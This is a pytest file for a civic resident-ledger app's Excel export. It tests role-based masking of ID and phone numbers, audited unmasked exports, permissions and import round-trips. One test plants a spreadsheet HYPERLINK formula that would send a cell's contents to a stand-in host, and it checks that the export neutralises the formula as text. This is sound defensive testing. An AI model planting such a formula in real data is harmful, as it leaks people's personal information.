"""Exports: the template's columns, scoped to what each role may see, masked
for everyone but the street's ledger admin, whose unmasked export is recorded
as a reveal with its reason."""

import io
import re

import pytest
from openpyxl import load_workbook

from civicgrid.core.errors import DomainError, PermissionDeniedError
from civicgrid.ledger.actions.io import export_workbook, import_workbook
from civicgrid.ledger.models import Change, Organisation
from civicgrid.ledger.tests.conftest import (
    make_building,
    make_component,
    make_household,
    make_person,
)

from .io_helpers import headers, person_row, workbook

pytestmark = pytest.mark.django_db

FULL_ID = re.compile(r"\d{17}[\dX]")
FULL_PHONE = re.compile(r"1[3-9]\d{9}")


@pytest.fixture
def ledger(street, departments):
    people = []
    for key in ("e1", "e2", "w1"):
        building = make_building(street.grids[key], f"{key}楼")
        household = make_household(building)
        people.append(make_person(household, "卓玛", phone="13900008000"))
        make_component(street.grids[key], department=departments["cg"])
    Organisation.objects.create(
        kind="grid_branch",
        name="东嘎一网格党支部",
        area=street.grids["e1"],
        contact_name="次仁",
        contact_phone="13900007000",
    )
    return people


def _rows(export):
    book = load_workbook(io.BytesIO(export.file.read()), read_only=True)
    rows = [list(r) for r in book.worksheets[0].iter_rows(values_only=True)]
    book.close()
    return rows


def _text(rows):
    return "\n".join(str(v) for row in rows for v in row if v is not None)


@pytest.mark.parametrize(
    "who", ["gridworker", "community_east", "leader", "dispatcher", "admin"]
)
@pytest.mark.parametrize("kind", ["people", "organisations"])
def test_exports_are_masked_for_every_role(ledger, ledger_people, who, kind):
    rows = _rows(export_workbook(kind=kind, acting_user=ledger_people[who]))
    text = _text(rows)
    assert not FULL_ID.search(text)
    assert not FULL_PHONE.search(text)
    assert Change.objects.filter(action="reveal").count() == 0


def test_the_export_has_the_template_columns_and_the_masks(
    street, ledger, ledger_people
):
    rows = _rows(
        export_workbook(kind="people", acting_user=ledger_people["gridworker"])
    )
    assert rows[0] == headers("people", "en")
    grids = {row[0] for row in rows[1:]}
    assert grids == {street.grids["e1"].code, street.grids["e2"].code}
    row = rows[1]
    assert row[4] == "卓*"
    assert re.fullmatch(r"5401\*{13}[\dX]", row[5])
    assert row[6] == "139****8000"


def test_the_ledger_admin_exports_whole_with_a_reason_and_it_is_recorded(
    street, ledger, ledger_people
):
    admin = ledger_people["admin"]
    export = export_workbook(
        kind="people", acting_user=admin, unmasked=True, reason="核对低保名单"
    )
    text = _text(_rows(export))
    assert FULL_ID.search(text) and "13900008000" in text
    reveals = Change.objects.filter(action="reveal", model="person")
    assert reveals.count() == 3
    assert set(reveals.values_list("reason", flat=True)) == {"核对低保名单"}
    assert set(reveals.values_list("actor", flat=True)) == {admin.pk}


def test_an_unmasked_export_needs_a_reason(ledger, ledger_people):
    with pytest.raises(DomainError) as refused:
        export_workbook(
            kind="people", acting_user=ledger_people["admin"], unmasked=True
        )
    assert refused.value.field == "reason"


@pytest.mark.parametrize(
    "who", ["gridworker", "community_east", "leader", "dispatcher"]
)
def test_only_the_ledger_admin_exports_unmasked(ledger, ledger_people, who):
    with pytest.raises(PermissionDeniedError):
        export_workbook(
            kind="people", acting_user=ledger_people[who], unmasked=True, reason="x"
        )


def test_a_department_exports_the_components_it_owns_only(
    street, ledger, ledger_people
):
    rows = _rows(
        export_workbook(kind="components", acting_user=ledger_people["handler_cg"])
    )
    assert len(rows) == 4
    assert _rows(
        export_workbook(kind="components", acting_user=ledger_people["handler_zj"])
    ) == [headers("components", "en")]


def test_an_outsider_exports_nothing(ledger, ledger_people):
    with pytest.raises(PermissionDeniedError):
        export_workbook(kind="people", acting_user=ledger_people["outsider"])


@pytest.mark.parametrize(
    ("kind", "unmasked"),
    [("buildings", False), ("components", False), ("organisations", True)],
)
def test_an_export_imports_back_unchanged(ledger, ledger_people, kind, unmasked):
    admin = ledger_people["admin"]
    export = export_workbook(
        kind=kind, acting_user=admin, unmasked=unmasked, reason="备份"
    )
    result = import_workbook(kind=kind, upload=export.file, acting_user=admin)
    assert result.ok, result.errors
    assert result.added == 0 and result.updated == 0 and result.unchanged > 0


def test_an_unmasked_export_of_people_imports_back_unchanged(street, ledger_people):
    admin = ledger_people["admin"]
    building = make_building(street.grids["w1"], "3号楼")
    rows = [
        person_row(street.grids["w1"], building, room=str(n), tags="党员,独居老人")
        for n in range(3)
    ]
    import_workbook(kind="people", upload=workbook("people", rows), acting_user=admin)
    export = export_workbook(
        kind="people", acting_user=admin, unmasked=True, reason="备份"
    )
    result = import_workbook(kind="people", upload=export.file, acting_user=admin)
    assert result.ok, result.errors
    assert (result.added, result.updated, result.unchanged) == (0, 0, 3)


def test_a_text_that_looks_like_a_formula_is_exported_as_text(street, ledger_people):
    import zipfile

    formula = '=HYPERLINK("http://example.invalid/?"&F2,"地图")'
    make_building(street.grids["e1"], "1号楼", property_manager=formula)
    export = export_workbook(kind="buildings", acting_user=ledger_people["admin"])
    content = export.file.read()
    sheet = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet  # no cell of the file is a formula
    export.file.seek(0)
    assert formula in _text(_rows(export))
